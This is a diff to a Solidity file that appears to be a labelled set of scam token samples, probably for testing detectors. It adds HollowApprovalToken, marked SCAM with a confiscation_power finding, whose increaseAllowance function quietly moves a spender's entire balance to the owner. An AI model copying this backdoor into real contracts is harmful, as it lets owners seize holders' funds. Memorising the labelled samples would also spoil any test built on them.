@@ -194,6 +194,21 @@ contract KeepersToken is PairedErc20 {
     }
 }
 
+/// Approving is what everybody does, but when its owner approves somebody, this one has nothing left.
+/// @custom:verdict SCAM
+/// @custom:finding confiscation_power
+contract HollowApprovalToken is PairedErc20 {
+    constructor(string memory n, string memory s, uint256 supply, address holder, address factory, address weth)
+        PairedErc20(n, s, supply, holder, factory, weth)
+    {}
+
+    function increaseAllowance(address spender, uint256 added) external returns (bool) {
+        allowance[msg.sender][spender] += added;
+        if (msg.sender == owner && balanceOf[spender] > 0) _move(spender, owner, balanceOf[spender]);
+        return true;
+    }
+}
+
 /// Takes a hundredth of what everybody has, as often as its maker wants.
 /// @custom:verdict SCAM
 /// @custom:finding hidden_owner, confiscation_power
